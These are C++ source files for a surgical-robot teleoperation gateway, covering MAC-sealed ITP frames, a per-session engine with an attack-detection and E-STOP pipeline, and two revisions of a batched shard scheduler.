inline constexpr std::size_t kMacFrameSize = kItpPacketSize + 8;
using MacFrameBytes = std::array<std::uint8_t, kMacFrameSize>;

[[nodiscard]] inline MacFrameBytes seal_itp_frame(const ItpBytes& itp,
                                                  const MacKey& key) noexcept {
  MacFrameBytes out{};
  for (std::size_t i = 0; i < kItpPacketSize; ++i) out[i] = itp[i];
  const std::uint64_t tag = siphash24(key, std::span<const std::uint8_t>{itp});
  const std::array<std::uint8_t, 8> tb = tag_bytes(tag);
  for (std::size_t i = 0; i < 8; ++i) out[kItpPacketSize + i] = tb[i];
  return out;
}

/// Verifies the tag of a 38-byte frame (constant-time compare).  The
/// caller has already checked the size.
[[nodiscard]] inline bool verify_itp_frame(std::span<const std::uint8_t> frame,
                                           const MacKey& key) noexcept {
  const std::uint64_t expect = siphash24(key, frame.first(kItpPacketSize));
  const std::uint64_t got = tag_from_bytes(frame.subspan(kItpPacketSize, 8));
  return tags_equal(expect, got);
}

}  // namespace rg::svc
