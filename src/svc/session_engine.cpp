#include "svc/session_engine.hpp"

#include <bit>

namespace rg::svc {

namespace {

JointVector default_initial_joints(const ControlConfig& control) {
  // Mirror the simulation harness: slightly off the homing target so the
  // Init phase does real work before teleoperation.
  JointVector q = control.limits.midpoint();
  q[0] += 0.05;
  q[1] -= 0.04;
  q[2] += 0.01;
  return q;
}

}  // namespace

SessionEngine::SessionEngine(const SessionEngineConfig& config)
    : config_(config),
      control_(config.control),
      plc_(config.plc),
      board_(plc_, config.channel),
      plant_(config.plant),
      pipeline_(config.detection) {
  plant_.set_joint_config(config_.initial_joints.value_or(default_initial_joints(config_.control)));
  board_.latch_encoders(plant_.motor_positions(), plant_.wrist_positions());
  if (config_.calibration.enabled) {
    sketch_ = std::make_unique<ThresholdSketch>(config_.calibration.target_quantile);
  }
}

RG_REALTIME void SessionEngine::tick_begin(std::optional<std::span<const std::uint8_t>> itp) {
  cmd_ = CommandBytes{};
  screen_ = DetectionPipeline::ScreenState{};
  screened_ = false;

  // A live gateway session has no operator walking to the start button:
  // arm the control software and PLC on the first tick.
  if (!started_) {
    control_.press_start();
    plc_.press_start();
    started_ = true;
  }

  // 1. Feedback from the interface board (the encoders the plant twin
  //    latched at the end of the previous tick).
  feedback_ = board_.build_feedback();

  // 2. The 1 kHz control cycle under the ingested datagram.
  cmd_ = control_.tick(itp, std::span{feedback_});

  // 3. Detection pipeline: feedback + screening up to the model solve.
  pipeline_.set_engaged(!plc_.brakes_engaged());
  MotorVector encoder_angles;
  for (std::size_t i = 0; i < 3; ++i) encoder_angles[i] = board_.encoder_angle(i);
  pipeline_.observe_feedback(encoder_angles);
  screen_ = pipeline_.begin_process(std::span{cmd_});
  screened_ = true;
}

RG_REALTIME void SessionEngine::tick_resolve(const RavenDynamicsModel::State& next) {
  const DetectionPipeline::Outcome out = pipeline_.finish_process(screen_, next);
  last_ = TickResult{true, out.alarm, out.blocked};
  if (out.alarm) ++alarms_;
  if (out.blocked) {
    ++blocked_;
    cmd_ = out.bytes;
    if (config_.detection.mitigation == MitigationStrategy::kEStop &&
        config_.detection.mitigation_enabled) {
      plc_.press_estop();
    }
  }
  fold_digest(out);
  if (sketch_) sketch_->observe(out.prediction);

  // The board refuses malformed commands and keeps its previous latch.  An
  // in-process encode can't be malformed, but if the tick scratch were ever
  // corrupted the refusal means no new command executed — report the tick
  // as unscreened rather than pretending the verdict drove the plant.
  const Status accepted = board_.receive_command(std::span<const std::uint8_t>{cmd_});
  if (!accepted.ok()) last_.screened = false;
  plc_.tick();
  drive_ = PlantDrive{board_.modeled_currents(), plc_.brakes_engaged(), board_.wrist_currents()};
}

RG_REALTIME SessionEngine::TickResult SessionEngine::tick_finish() {
  board_.latch_encoders(plant_.motor_positions(), plant_.wrist_positions());
  ++ticks_;
  return last_;
}

RG_REALTIME SessionEngine::TickResult SessionEngine::tick(
    std::optional<std::span<const std::uint8_t>> itp) {
  tick_begin(itp);
  RavenDynamicsModel::State next{};
  if (needs_solve()) next = pipeline_.estimator().solve(screen_.pending);
  tick_resolve(next);
  plant_.step_control_period(drive_.currents, drive_.brakes_engaged, drive_.wrist_currents);
  return tick_finish();
}

RG_REALTIME void SessionEngine::fold_digest(const DetectionPipeline::Outcome& out) noexcept {
  constexpr std::uint64_t kPrime = 0x100000001b3ULL;
  const auto fold = [&](std::uint64_t v) {
    digest_ ^= v;
    digest_ *= kPrime;
  };
  fold(static_cast<std::uint64_t>(out.alarm) | (static_cast<std::uint64_t>(out.blocked) << 1) |
       (static_cast<std::uint64_t>(out.verdict.worst_axis) << 2));
  fold(std::bit_cast<std::uint64_t>(out.prediction.ee_displacement));
}

}  // namespace rg::svc
