// SessionEngine: one surgeon session's server-side stack.
//
// The gateway runs, per session, the same trusted chain the simulation
// harness wires up — control software, PLC, USB interface board, plant
// twin, and the detection pipeline — but driven by *externally ingested*
// ITP datagrams instead of an in-process master console.  One accepted
// datagram advances the session by exactly one 1 kHz control tick, so a
// session's verdict stream is a pure function of its datagram stream:
// that is what makes gateway runs deterministic at any shard count.
//
// The tick is phase-split exactly like SurgicalSim's (begin / solve /
// resolve / plant / finish) so a shard can gather up to kBatchLanes
// sessions and run the two model-physics hot spots — the estimator's
// one-step solve and the plant's RK4 substep loop — through the batched
// SoA kernels (dynamics/batch_model.hpp).  The batched kernels are
// bit-identical to the scalar ones, so batching never perturbs a verdict.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <span>

#include "common/realtime.hpp"
#include "control/control_software.hpp"
#include "core/pipeline.hpp"
#include "core/quantile_sketch.hpp"
#include "hw/plc.hpp"
#include "hw/usb_board.hpp"
#include "plant/physical_robot.hpp"

namespace rg::svc {

/// Per-session streaming calibration: when enabled the engine feeds every
/// valid prediction into a ThresholdSketch on the tick path (observe() is
/// RG_REALTIME), so the gateway can compare a live session's quantiles
/// against its cohort's committed thresholds (drift detection) and merge
/// session sketches into a cohort calibration.
struct SessionCalibrationConfig {
  bool enabled = false;
  /// Quantile the sketch tracks exactly (see target_quantile_for()).
  double target_quantile = kDefaultThresholdPercentile / 100.0;
};

struct SessionEngineConfig {
  ControlConfig control{};
  PlantConfig plant{};
  PlcConfig plc{};
  MotorChannelConfig channel{};
  PipelineConfig detection{};
  SessionCalibrationConfig calibration{};
  /// Plant start configuration (defaults to just off the homing target,
  /// as in the simulation harness, so homing does real work).
  std::optional<JointVector> initial_joints{};
};

class SessionEngine {
 public:
  /// What one tick produced (the session's externally visible verdict).
  struct TickResult {
    bool screened = false;
    bool alarm = false;
    bool blocked = false;
  };

  explicit SessionEngine(const SessionEngineConfig& config);

  /// Scalar convenience: one full control tick consuming `itp` (nullopt
  /// models a within-session gap the caller chose to tick through).
  RG_REALTIME TickResult tick(std::optional<std::span<const std::uint8_t>> itp);

  // --- phase-split tick (the shard's batched driver) -----------------------
  RG_REALTIME void tick_begin(std::optional<std::span<const std::uint8_t>> itp);
  [[nodiscard]] RG_REALTIME bool needs_solve() const noexcept {
    return screened_ && !screen_.complete;
  }
  [[nodiscard]] RG_REALTIME const PendingSolve& pending_solve() const noexcept {
    return screen_.pending;
  }
  /// Verdict + mitigation + board latch + PLC tick; stashes the plant
  /// drive for this period.  `next` is ignored unless needs_solve().
  RG_REALTIME void tick_resolve(const RavenDynamicsModel::State& next);
  [[nodiscard]] RG_REALTIME const PlantDrive& drive() const noexcept { return drive_; }
  /// Encoder latch + per-session bookkeeping; the caller has stepped the
  /// plant (scalar or batched lane) with drive() in between.
  RG_REALTIME TickResult tick_finish();

  // --- introspection -------------------------------------------------------
  [[nodiscard]] RG_REALTIME PhysicalRobot& plant() noexcept { return plant_; }
  [[nodiscard]] DetectionPipeline& pipeline() noexcept { return pipeline_; }
  [[nodiscard]] ControlSoftware& control() noexcept { return control_; }
  [[nodiscard]] std::uint64_t ticks() const noexcept { return ticks_; }
  [[nodiscard]] std::uint64_t alarms() const noexcept { return alarms_; }
  [[nodiscard]] std::uint64_t blocked() const noexcept { return blocked_; }
  /// Whether the session's PLC has latched E-STOP (absorbing until reset;
  /// surfaced through ShardSessionStats and the admin /readyz probe).
  [[nodiscard]] bool estop_latched() const noexcept { return plc_.estop_latched(); }
  [[nodiscard]] const TickResult& last() const noexcept { return last_; }

  /// FNV-1a fold of every tick's verdict (screened/alarm/blocked and the
  /// bit pattern of the predicted end-effector displacement).  Two runs
  /// that fed a session the same datagram stream must produce the same
  /// digest regardless of sharding or batching — the determinism probe
  /// tests/test_gateway.cpp asserts.
  [[nodiscard]] std::uint64_t verdict_digest() const noexcept { return digest_; }

  /// The session's streaming calibration sketch, or nullptr when
  /// calibration is disabled.  Owned by the engine; read it only from the
  /// thread that advances the session (the owning shard).
  [[nodiscard]] const ThresholdSketch* calibration_sketch() const noexcept {
    return sketch_.get();
  }

 private:
  RG_REALTIME void fold_digest(const DetectionPipeline::Outcome& out) noexcept;

  SessionEngineConfig config_;
  ControlSoftware control_;
  Plc plc_;
  UsbBoard board_;
  PhysicalRobot plant_;
  DetectionPipeline pipeline_;

  // Per-tick scratch carried across the phase boundaries.
  CommandBytes cmd_{};
  DetectionPipeline::ScreenState screen_{};
  bool screened_ = false;
  PlantDrive drive_{};
  FeedbackBytes feedback_{};

  /// Heap-allocated (once, at construction) so disabled sessions don't
  /// pay the sketch's ~74 KB of exact-phase buffers.
  std::unique_ptr<ThresholdSketch> sketch_;

  bool started_ = false;
  std::uint64_t ticks_ = 0;
  std::uint64_t alarms_ = 0;
  std::uint64_t blocked_ = 0;
  std::uint64_t digest_ = 0xcbf29ce484222325ULL;  // FNV-1a offset basis
  TickResult last_{};
};

}  // namespace rg::svc
