#include "svc/shard.hpp"

#include <algorithm>
#include <array>
#include <string>

#include "obs/span.hpp"
#include "plant/batch_plant.hpp"

namespace rg::svc {

GatewayShard::GatewayShard(const ShardConfig& config)
    : config_(config), est_model_(config.engine.detection.estimator.model) {
  auto& reg = obs::Registry::global();
  latency_hist_ = reg.histogram("rg.gw.ingest_to_verdict_ns");
  round_lanes_hist_ = reg.histogram("rg.gw.round.lanes");
  ticks_counter_ =
      reg.counter("rg.gw.shard." + std::to_string(config.index) + ".ticks");
  queue_hwm_gauge_ =
      reg.gauge("rg.gw.shard." + std::to_string(config.index) + ".queue_hwm");
}

GatewayShard::~GatewayShard() { stop(); }

void GatewayShard::start() {
  if (!config_.threaded || started_) return;
  started_ = true;
  worker_ = std::thread([this] { worker_loop(); });
}

void GatewayShard::stop() {
  {
    const std::lock_guard<std::mutex> lock(queue_mutex_);
    stop_ = true;
  }
  queue_cv_.notify_all();
  if (worker_.joinable()) worker_.join();
  started_ = false;
}

bool GatewayShard::submit(const ShardItem& item) {
  {
    const std::lock_guard<std::mutex> lock(queue_mutex_);
    if (stop_) return false;
    if (item.kind == ShardItem::Kind::kDatagram && queue_.size() >= config_.max_queue) {
      return false;  // backpressure: the caller counts the drop
    }
    queue_.push_back(item);
    if (queue_.size() > queue_hwm_) {
      queue_hwm_ = queue_.size();
      obs::Registry::global().set(queue_hwm_gauge_, static_cast<double>(queue_hwm_));
    }
  }
  queue_cv_.notify_one();
  return true;
}

void GatewayShard::worker_loop() {
  std::unique_lock<std::mutex> lock(queue_mutex_);
  while (true) {
    queue_cv_.wait(lock, [&] { return stop_ || !queue_.empty(); });
    if (queue_.empty()) {
      if (stop_) return;
      continue;
    }
    std::vector<ShardItem> items;
    items.swap(queue_);
    processing_ = true;
    lock.unlock();
    {
      const std::lock_guard<std::mutex> state(state_mutex_);
      apply_items(items);
      run_rounds();
    }
    lock.lock();
    processing_ = false;
  }
}

void GatewayShard::process_pending() {
  std::vector<ShardItem> items;
  {
    const std::lock_guard<std::mutex> lock(queue_mutex_);
    if (queue_.empty()) return;
    items.swap(queue_);
    processing_ = true;
  }
  {
    const std::lock_guard<std::mutex> state(state_mutex_);
    apply_items(items);
    run_rounds();
  }
  const std::lock_guard<std::mutex> lock(queue_mutex_);
  processing_ = false;
}

bool GatewayShard::idle() const {
  const std::lock_guard<std::mutex> lock(queue_mutex_);
  return queue_.empty() && !processing_;
}

void GatewayShard::apply_items(const std::vector<ShardItem>& items) {
  for (const ShardItem& item : items) {
    switch (item.kind) {
      case ShardItem::Kind::kOpen: {
        SessionEngineConfig cfg = config_.engine;
        cfg.plant.seed = config_.plant_seed_base + item.session;
        sessions_.emplace(item.session, std::make_unique<LocalSession>(cfg));
        break;
      }
      case ShardItem::Kind::kClose: {
        const auto it = sessions_.find(item.session);
        if (it == sessions_.end()) break;
        const SessionEngine& eng = it->second->engine;
        retired_[item.session] = ShardSessionStats{eng.ticks(), eng.alarms(), eng.blocked(),
                                                   eng.verdict_digest(), eng.estop_latched()};
        sessions_.erase(it);
        break;
      }
      case ShardItem::Kind::kDatagram: {
        const auto it = sessions_.find(item.session);
        if (it == sessions_.end()) break;  // evicted between accept and drain
        it->second->mailbox.emplace_back(item.bytes, item.ingest_ns);
        break;
      }
    }
  }
}

void GatewayShard::run_rounds() {
  std::vector<LocalSession*> ready;
  std::vector<LocalSession*> chunk;
  std::vector<std::pair<ItpBytes, std::uint64_t>> datagrams;
  while (true) {
    ready.clear();
    for (auto& [id, ls] : sessions_) {  // std::map: ascending id, deterministic
      if (!ls->mailbox.empty()) ready.push_back(ls.get());
    }
    if (ready.empty()) break;
    for (std::size_t base = 0; base < ready.size(); base += kBatchLanes) {
      const std::size_t n = std::min(kBatchLanes, ready.size() - base);
      chunk.assign(ready.begin() + static_cast<std::ptrdiff_t>(base),
                   ready.begin() + static_cast<std::ptrdiff_t>(base + n));
      datagrams.clear();
      for (LocalSession* ls : chunk) {
        datagrams.push_back(std::move(ls->mailbox.front()));
        ls->mailbox.pop_front();
      }
      round_tick(chunk, datagrams);
    }
  }
}

RG_REALTIME void GatewayShard::round_tick(std::vector<LocalSession*>& chunk,
                              std::vector<std::pair<ItpBytes, std::uint64_t>>& datagrams) {
  RG_SPAN("gw.round");
  const std::size_t n = chunk.size();
  auto& reg = obs::Registry::global();
  reg.observe(round_lanes_hist_, n);

  // Phase A — control cycle + screening up to the model solve.
  for (std::size_t l = 0; l < n; ++l) {
    chunk[l]->engine.tick_begin(std::span<const std::uint8_t>{datagrams[l].first});
  }

  // Phase B — one batched estimator solve for the lanes that need one.
  std::array<RavenDynamicsModel::State, kBatchLanes> next{};
  std::array<bool, kBatchLanes> solving{};
  std::size_t first_solving = kBatchLanes;
  for (std::size_t l = 0; l < n; ++l) {
    solving[l] = chunk[l]->engine.needs_solve();
    if (solving[l] && first_solving == kBatchLanes) first_solving = l;
  }
  if (first_solving != kBatchLanes) {
    const PendingSolve& ref = chunk[first_solving]->engine.pending_solve();
    BatchState x;
    BatchLanes3 currents{};
    x.set_lane(0, ref.x0);
    for (std::size_t i = 0; i < 3; ++i) currents[i].fill(ref.currents[i]);
    x.broadcast(0);
    for (std::size_t l = 0; l < n; ++l) {
      if (!solving[l]) continue;
      const PendingSolve& pending = chunk[l]->engine.pending_solve();
      x.set_lane(l, pending.x0);
      for (std::size_t i = 0; i < 3; ++i) currents[i][l] = pending.currents[i];
    }
    est_model_.step(x, currents, ref.h, ref.solver);
    for (std::size_t l = 0; l < n; ++l) {
      if (solving[l]) next[l] = x.lane(l);
    }
  }

  // Phase C — verdict, mitigation, board latch, PLC.
  std::array<PlantDrive, kBatchLanes> drives{};
  for (std::size_t l = 0; l < n; ++l) {
    chunk[l]->engine.tick_resolve(next[l]);
    drives[l] = chunk[l]->engine.drive();
  }

  // Phase D — one batched plant period over the chunk (bit-identical to
  // per-session scalar stepping; a single session skips batch setup).
  if (n == 1) {
    const PlantDrive& d = drives[0];
    chunk[0]->engine.plant().step_control_period(d.currents, d.brakes_engaged,
                                                 d.wrist_currents);
  } else {
    std::array<PhysicalRobot*, kBatchLanes> plants{};
    for (std::size_t l = 0; l < n; ++l) plants[l] = &chunk[l]->engine.plant();
    BatchPlant batch(std::span<PhysicalRobot* const>{plants.data(), n});
    batch.step_control_period(std::span<const PlantDrive>{drives.data(), n});
  }

  // Phase E — encoders + per-session bookkeeping + latency.
  const std::uint64_t done_ns = obs::monotonic_ns();
  for (std::size_t l = 0; l < n; ++l) {
    (void)chunk[l]->engine.tick_finish();
    reg.observe(latency_hist_, done_ns - datagrams[l].second);
  }
  total_ticks_ += n;
  reg.add(ticks_counter_, n);
}

std::optional<ShardSessionStats> GatewayShard::session_stats(std::uint32_t id) const {
  const std::lock_guard<std::mutex> lock(state_mutex_);
  const auto it = sessions_.find(id);
  if (it != sessions_.end()) {
    const SessionEngine& eng = it->second->engine;
    return ShardSessionStats{eng.ticks(), eng.alarms(), eng.blocked(), eng.verdict_digest(),
                             eng.estop_latched()};
  }
  const auto rit = retired_.find(id);
  if (rit != retired_.end()) return rit->second;
  return std::nullopt;
}

std::uint64_t GatewayShard::ticks() const noexcept {
  const std::lock_guard<std::mutex> lock(state_mutex_);
  return total_ticks_;
}

std::size_t GatewayShard::queue_high_watermark() const {
  const std::lock_guard<std::mutex> lock(queue_mutex_);
  return queue_hwm_;
}

std::vector<GatewayShard::DriftAlarm> GatewayShard::scan_drift(
    const DetectionThresholds& committed, double percentile_value, double max_ratio,
    std::uint64_t min_samples, std::uint64_t* checked) {
  std::vector<DriftAlarm> alarms;
  std::uint64_t examined = 0;
  const std::lock_guard<std::mutex> lock(state_mutex_);
  for (auto& [id, ls] : sessions_) {  // std::map: ascending id, deterministic
    if (ls->drift_latched) continue;
    const ThresholdSketch* sketch = ls->engine.calibration_sketch();
    if (sketch == nullptr) continue;
    ++examined;
    const DriftVerdict verdict =
        check_drift(*sketch, committed, percentile_value, max_ratio, min_samples);
    if (verdict.drifted) {
      ls->drift_latched = true;
      alarms.push_back(DriftAlarm{id, verdict});
    }
  }
  if (checked != nullptr) *checked = examined;
  return alarms;
}

std::vector<std::pair<std::uint32_t, ThresholdSketch>> GatewayShard::session_sketches() const {
  std::vector<std::pair<std::uint32_t, ThresholdSketch>> out;
  const std::lock_guard<std::mutex> lock(state_mutex_);
  for (const auto& [id, ls] : sessions_) {
    const ThresholdSketch* sketch = ls->engine.calibration_sketch();
    if (sketch != nullptr) out.emplace_back(id, *sketch);
  }
  return out;
}

}  // namespace rg::svc
