#include "svc/shard.hpp"

#include <algorithm>
#include <array>
#include <string>

#include "obs/span.hpp"
#include "plant/batch_plant.hpp"

namespace rg::svc {

GatewayShard::GatewayShard(const ShardConfig& config)
    : config_(config),
      ring_(config.max_queue),
      burst_(std::min(kDrainBurst, config.max_queue)),
      est_model_(config.engine.detection.estimator.model) {
  auto& reg = obs::Registry::global();
  latency_hist_ = reg.histogram("rg.gw.ingest_to_verdict_ns");
  round_lanes_hist_ = reg.histogram("rg.gw.round.lanes");
  ticks_counter_ =
      reg.counter("rg.gw.shard." + std::to_string(config.index) + ".ticks");
  queue_hwm_gauge_ =
      reg.gauge("rg.gw.shard." + std::to_string(config.index) + ".queue_hwm");
  ring_full_counter_ =
      reg.counter("rg.gw.shard." + std::to_string(config.index) + ".ring_full");
}

GatewayShard::~GatewayShard() { stop(); }

RG_THREAD(any) void GatewayShard::start() {
  if (!config_.threaded || started_) return;
  started_ = true;
  stop_.store(false, std::memory_order_relaxed);
  // rg-lint: allow(thread_role) -- thread entry: this lambda IS the shard thread
  worker_ = std::thread([this] { worker_loop(); });
}

RG_THREAD(any) void GatewayShard::stop() {
  stop_.store(true, std::memory_order_seq_cst);
  {
    // The empty critical section orders the store against a worker that
    // is between its predicate check and its wait.
    const std::lock_guard<std::mutex> lock(wake_mutex_);
  }
  wake_cv_.notify_all();
  if (worker_.joinable()) worker_.join();
  started_ = false;
  idle_cv_.notify_all();  // release wait_idle() callers
}

RG_REALTIME RG_THREAD(pump) bool GatewayShard::submit(const ShardItem& item) {
  if (stop_.load(std::memory_order_relaxed)) return false;
  if (!ring_.try_push(item)) {
    if (item.kind == ShardItem::Kind::kDatagram) {
      // Backpressure: the caller counts the drop; we count the cause.
      ring_full_.fetch_add(1, std::memory_order_relaxed);
      obs::Registry::global().add(ring_full_counter_);
      return false;
    }
    // Control items (open/close) must never drop — session lifecycle on
    // the shard would diverge from the gateway's table.  Threaded: the
    // worker is draining, so wake it and spin until a slot frees.
    // Inline: the consumer IS this thread, so drain the ring ourselves.
    while (!ring_.try_push(item)) {
      if (stop_.load(std::memory_order_relaxed)) return false;
      if (started_) {
        wake_worker();
        std::this_thread::yield();
      } else {
        process_pending();  // rg-lint: allow(call) -- inline-mode slow path, off the ring fast path
      }
    }
  }
  ++submitted_;
  const std::size_t depth = ring_.size_approx();
  if (depth > queue_hwm_.load(std::memory_order_relaxed)) {
    queue_hwm_.store(depth, std::memory_order_relaxed);
    obs::Registry::global().set(queue_hwm_gauge_, static_cast<double>(depth));
  }
  wake_worker();
  return true;
}

RG_REALTIME RG_THREAD(pump) void GatewayShard::wake_worker() {
  if (!started_) return;
  // Producer half of the lost-wakeup protocol: the push above (release),
  // then a seq_cst RMW on wake_seq_, then the sleeping_ check.  Both
  // sides RMW the same atomic, so whichever lands later in its
  // modification order acquires the other side's prior writes: either
  // our push is visible to the worker's ring-empty recheck (worker never
  // sleeps) or its sleeping_=true is visible to our load (we knock).  An
  // RMW rather than atomic_thread_fence so ThreadSanitizer can model it
  // (GCC -fsanitize=thread has no fence instrumentation and warns).
  wake_seq_.fetch_add(1, std::memory_order_seq_cst);
  if (sleeping_.load(std::memory_order_relaxed)) {
    // Taking the mutex pins the worker on either side of its wait —
    // notify cannot land inside the check-then-wait window.
    const std::lock_guard<std::mutex> lock(wake_mutex_);  // rg-lint: allow(lock) -- only reached when the worker is provably asleep
    wake_cv_.notify_one();
  }
}

RG_THREAD(shard) void GatewayShard::worker_loop() {
  std::vector<ShardItem> burst(std::min(kDrainBurst, config_.max_queue));
  while (true) {
    drain_burst(burst);
    if (stop_.load(std::memory_order_acquire) && ring_.empty()) return;

    // Consumer half of the lost-wakeup protocol (see wake_worker).
    std::unique_lock<std::mutex> lock(wake_mutex_);
    sleeping_.store(true, std::memory_order_relaxed);
    wake_seq_.fetch_add(1, std::memory_order_seq_cst);
    if (ring_.empty() && !stop_.load(std::memory_order_relaxed)) {
      wake_cv_.wait(lock, [&] {
        return stop_.load(std::memory_order_relaxed) || !ring_.empty();
      });
    }
    sleeping_.store(false, std::memory_order_relaxed);
  }
}

RG_THREAD(shard) void GatewayShard::drain_burst(std::vector<ShardItem>& burst) {
  while (true) {
    const std::size_t n = ring_.pop_batch(burst.data(), burst.size());
    if (n == 0) return;
    {
      const MutexLock state(state_mutex_);
      apply_items(burst.data(), n);
      run_rounds();
    }
    {
      const std::lock_guard<std::mutex> lock(idle_mutex_);
      completed_ += n;
    }
    idle_cv_.notify_all();
  }
}

RG_THREAD(pump) void GatewayShard::process_pending() {
  // rg-lint: allow(thread_role) -- inline mode: the pump thread IS the shard consumer here
  drain_burst(burst_);
}

RG_THREAD(pump) bool GatewayShard::idle() const {
  std::uint64_t done = 0;
  {
    const std::lock_guard<std::mutex> lock(idle_mutex_);
    done = completed_;
  }
  return done == submitted_;
}

RG_THREAD(pump) void GatewayShard::wait_idle() {
  if (!started_) {
    process_pending();
    return;
  }
  const std::uint64_t target = submitted_;
  std::unique_lock<std::mutex> lock(idle_mutex_);
  idle_cv_.wait(lock, [&] {
    return completed_ >= target || stop_.load(std::memory_order_relaxed);
  });
}

RG_THREAD(shard) void GatewayShard::apply_items(const ShardItem* items, std::size_t n) {
  for (std::size_t i = 0; i < n; ++i) {
    const ShardItem& item = items[i];
    switch (item.kind) {
      case ShardItem::Kind::kOpen: {
        SessionEngineConfig cfg = config_.engine;
        cfg.plant.seed = config_.plant_seed_base + item.session;
        sessions_.emplace(item.session, std::make_unique<LocalSession>(cfg));
        break;
      }
      case ShardItem::Kind::kClose: {
        const auto it = sessions_.find(item.session);
        if (it == sessions_.end()) break;
        const SessionEngine& eng = it->second->engine;
        retired_[item.session] = ShardSessionStats{eng.ticks(), eng.alarms(), eng.blocked(),
                                                   eng.verdict_digest(), eng.estop_latched()};
        sessions_.erase(it);
        break;
      }
      case ShardItem::Kind::kDatagram: {
        const auto it = sessions_.find(item.session);
        if (it == sessions_.end()) break;  // evicted between accept and drain
        it->second->mailbox.emplace_back(item.bytes, item.ingest_ns);
        break;
      }
    }
  }
}

RG_THREAD(shard) void GatewayShard::run_rounds() {
  std::vector<LocalSession*> ready;
  std::vector<LocalSession*> chunk;
  std::vector<std::pair<ItpBytes, std::uint64_t>> datagrams;
  while (true) {
    ready.clear();
    for (auto& [id, ls] : sessions_) {  // std::map: ascending id, deterministic
      if (!ls->mailbox.empty()) ready.push_back(ls.get());
    }
    if (ready.empty()) break;
    for (std::size_t base = 0; base < ready.size(); base += kBatchLanes) {
      const std::size_t n = std::min(kBatchLanes, ready.size() - base);
      chunk.assign(ready.begin() + static_cast<std::ptrdiff_t>(base),
                   ready.begin() + static_cast<std::ptrdiff_t>(base + n));
      datagrams.clear();
      for (LocalSession* ls : chunk) {
        datagrams.push_back(std::move(ls->mailbox.front()));
        ls->mailbox.pop_front();
      }
      round_tick(chunk, datagrams);
    }
  }
}

RG_REALTIME RG_THREAD(shard) RG_DETERMINISTIC void GatewayShard::round_tick(
    std::vector<LocalSession*>& chunk,
    std::vector<std::pair<ItpBytes, std::uint64_t>>& datagrams) {
  RG_SPAN("gw.round");
  const std::size_t n = chunk.size();
  auto& reg = obs::Registry::global();
  reg.observe(round_lanes_hist_, n);

  // Phase A — control cycle + screening up to the model solve.
  for (std::size_t l = 0; l < n; ++l) {
    chunk[l]->engine.tick_begin(std::span<const std::uint8_t>{datagrams[l].first});
  }

  // Phase B — one batched estimator solve for the lanes that need one.
  std::array<RavenDynamicsModel::State, kBatchLanes> next{};
  std::array<bool, kBatchLanes> solving{};
  std::size_t first_solving = kBatchLanes;
  for (std::size_t l = 0; l < n; ++l) {
    solving[l] = chunk[l]->engine.needs_solve();
    if (solving[l] && first_solving == kBatchLanes) first_solving = l;
  }
  if (first_solving != kBatchLanes) {
    const PendingSolve& ref = chunk[first_solving]->engine.pending_solve();
    BatchState x;
    BatchLanes3 currents{};
    x.set_lane(0, ref.x0);
    for (std::size_t i = 0; i < 3; ++i) currents[i].fill(ref.currents[i]);
    x.broadcast(0);
    for (std::size_t l = 0; l < n; ++l) {
      if (!solving[l]) continue;
      const PendingSolve& pending = chunk[l]->engine.pending_solve();
      x.set_lane(l, pending.x0);
      for (std::size_t i = 0; i < 3; ++i) currents[i][l] = pending.currents[i];
    }
    est_model_.step(x, currents, ref.h, ref.solver);
    for (std::size_t l = 0; l < n; ++l) {
      if (solving[l]) next[l] = x.lane(l);
    }
  }

  // Phase C — verdict, mitigation, board latch, PLC.
  std::array<PlantDrive, kBatchLanes> drives{};
  for (std::size_t l = 0; l < n; ++l) {
    chunk[l]->engine.tick_resolve(next[l]);
    drives[l] = chunk[l]->engine.drive();
  }

  // Phase D — one batched plant period over the chunk (bit-identical to
  // per-session scalar stepping; a single session skips batch setup).
  if (n == 1) {
    const PlantDrive& d = drives[0];
    chunk[0]->engine.plant().step_control_period(d.currents, d.brakes_engaged,
                                                 d.wrist_currents);
  } else {
    std::array<PhysicalRobot*, kBatchLanes> plants{};
    for (std::size_t l = 0; l < n; ++l) plants[l] = &chunk[l]->engine.plant();
    BatchPlant batch(std::span<PhysicalRobot* const>{plants.data(), n});
    batch.step_control_period(std::span<const PlantDrive>{drives.data(), n});
  }

  // Phase E — encoders + per-session bookkeeping + latency.
  // rg-lint: allow(nondet) -- latency histogram only; never feeds the verdict
  const std::uint64_t done_ns = obs::monotonic_ns();
  for (std::size_t l = 0; l < n; ++l) {
    (void)chunk[l]->engine.tick_finish();
    reg.observe(latency_hist_, done_ns - datagrams[l].second);
  }
  total_ticks_ += n;
  reg.add(ticks_counter_, n);
}

RG_THREAD(any) std::optional<ShardSessionStats> GatewayShard::session_stats(std::uint32_t id) const {
  const MutexLock lock(state_mutex_);
  const auto it = sessions_.find(id);
  if (it != sessions_.end()) {
    const SessionEngine& eng = it->second->engine;
    return ShardSessionStats{eng.ticks(), eng.alarms(), eng.blocked(), eng.verdict_digest(),
                             eng.estop_latched()};
  }
  const auto rit = retired_.find(id);
  if (rit != retired_.end()) return rit->second;
  return std::nullopt;
}

RG_THREAD(any) std::uint64_t GatewayShard::ticks() const noexcept {
  const MutexLock lock(state_mutex_);
  return total_ticks_;
}

RG_THREAD(any) std::size_t GatewayShard::queue_high_watermark() const noexcept {
  return queue_hwm_.load(std::memory_order_relaxed);
}

RG_THREAD(any) std::uint64_t GatewayShard::ring_full() const noexcept {
  return ring_full_.load(std::memory_order_relaxed);
}

RG_THREAD(any) std::vector<GatewayShard::DriftAlarm> GatewayShard::scan_drift(
    const DetectionThresholds& committed, double percentile_value, double max_ratio,
    std::uint64_t min_samples, std::uint64_t* checked) {
  std::vector<DriftAlarm> alarms;
  std::uint64_t examined = 0;
  const MutexLock lock(state_mutex_);
  for (auto& [id, ls] : sessions_) {  // std::map: ascending id, deterministic
    if (ls->drift_latched) continue;
    const ThresholdSketch* sketch = ls->engine.calibration_sketch();
    if (sketch == nullptr) continue;
    ++examined;
    const DriftVerdict verdict =
        check_drift(*sketch, committed, percentile_value, max_ratio, min_samples);
    if (verdict.drifted) {
      ls->drift_latched = true;
      alarms.push_back(DriftAlarm{id, verdict});
    }
  }
  if (checked != nullptr) *checked = examined;
  return alarms;
}

RG_THREAD(any) std::vector<std::pair<std::uint32_t, ThresholdSketch>> GatewayShard::session_sketches()
    const {
  std::vector<std::pair<std::uint32_t, ThresholdSketch>> out;
  const MutexLock lock(state_mutex_);
  for (const auto& [id, ls] : sessions_) {
    const ThresholdSketch* sketch = ls->engine.calibration_sketch();
    if (sketch != nullptr) out.emplace_back(id, *sketch);
  }
  return out;
}

}  // namespace rg::svc
